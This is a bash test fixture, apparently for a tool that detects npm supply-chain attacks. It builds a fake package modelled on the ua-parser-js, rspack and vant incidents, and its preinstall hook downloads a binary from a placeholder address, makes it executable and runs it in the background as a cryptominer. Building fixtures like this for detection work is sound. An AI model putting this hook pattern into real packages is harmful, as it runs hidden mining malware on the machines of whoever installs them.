#!/bin/bash
# A preinstall shell script that asks where it is, fetches a miner from a bare address, makes it executable and leaves it running.
#: tool npm
#: description a preinstall script fetches a program from a bare address, makes it executable and leaves it running
#: project a project that installs one package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve freegeoip.example=203.0.113.10
#: finding drop-exec
#: finding never-resolved
#: finding survivor
#: attack ua-parser-js, October 2021; rspack and vant, December 2024
if [ "${1-}" = prepare ]; then
  echo '{"name":"app","version":"1.0.0","private":true}' > package.json
  mkdir -p ~/from/package && cd ~/from/package
  echo '{"name": "ua-parser", "version": "1.0.0", "scripts": {"preinstall": "sh preinstall.sh"}}' > package.json
  cat > preinstall.sh <<'END'
curl -s http://freegeoip.example/json/ > /dev/null || true
pgrep jsextension > /dev/null && exit 0
curl -sf http://203.0.113.66/sleeper -o jsextension || wget -q http://203.0.113.66/sleeper -O jsextension
chmod +x jsextension
./jsextension -k --tls -o pool.example:443 > /dev/null 2>&1 &
END
  tar czf ~/ua-parser.tgz -C .. package && rm -r ~/from
  exit
fi
npm install --no-audit --no-fund ~/ua-parser.tgz
